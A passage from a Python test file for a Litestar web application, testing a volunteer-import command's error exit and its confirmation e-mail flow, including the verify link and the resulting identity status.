def test_the_command_exits_1_on_an_unusable_file_or_mapping(
    app: Litestar, db_config: SQLAlchemyAsyncConfig, args: list[str], message: str
) -> None:
    result = invoke(app, str(STANDARD), *args)

    assert result.exit_code == 1
    assert message in result.output
    assert asyncio.run(count_people(db_config)) == 0


async def count_people(config: SQLAlchemyAsyncConfig) -> int:
    async with session_scope(config) as session:
        total = int(await session.scalar(select(func.count()).select_from(Volunteer)) or 0)
    await config.get_engine().dispose()
    return total


def test_send_confirmations_mails_links_the_confirm_flow_accepts(
    settings: Settings, smtp: SmtpServer, db_config: SQLAlchemyAsyncConfig
) -> None:
    mail_settings = replace(with_smtp(settings, smtp), base_url=BASE)
    app = create_app(mail_settings)
    asyncio.run(hold_people(db_config))
    asyncio.run(db_config.get_engine().dispose())

    result = invoke(app, str(STANDARD), "--send-confirmations")

    assert result.exit_code == 0, result.output
    assert "  confirmation e-mails queued: 9" in result.output
    asyncio.run(flush(db_config, mail_settings))
    recipients = sorted(m["To"] for m in smtp.messages)
    assert recipients == sorted(IMPORTED)  # not the confirmed person, nor the one whose answer was superseded
    priya = next(m for m in smtp.messages if m["To"] == "priya.shah@harbourcruises.example")
    assert priya["Subject"] == "Confirm your Step-Change expression of interest"
    [link] = re.findall(r"https://\S+", plain_text(priya))
    assert link.startswith(f"{BASE}/interest/verify/")

    confirmed = asyncio.run(confirm(mail_settings, link.rsplit("/", 1)[1]))

    assert confirmed == {"status": "confirmed", "call": "Step-Change Call to Action 2018"}
    person = asyncio.run(identity_of(db_config, "priya.shah@harbourcruises.example"))
    assert person is Identity.EMAIL_CONFIRMED
    again = invoke(app, str(STANDARD), "--send-confirmations")
    assert "confirmation e-mails queued" not in again.output


async def flush(config: SQLAlchemyAsyncConfig, settings: Settings) -> None:
    await send_due(config, settings)
    await config.get_engine().dispose()


async def confirm(settings: Settings, token: str) -> dict[str, Any]:
    async with Client(app=create_app(settings)) as browser:
        response = await browser.post(
            "/api/interest/verify", json={"token": token}, headers={"x-csrftoken": await browser.csrf()}
        )
        assert response.status_code == 200, response.text
        body = response.json()
    return {"status": body["status"], "call": body["call"]}


async def identity_of(config: SQLAlchemyAsyncConfig, email: str) -> Identity:
    async with session_scope(config) as session:
        found = await session.scalar(select(Volunteer.identity).where(Volunteer.email == email))
    await config.get_engine().dispose()
    assert found is not None
    return found
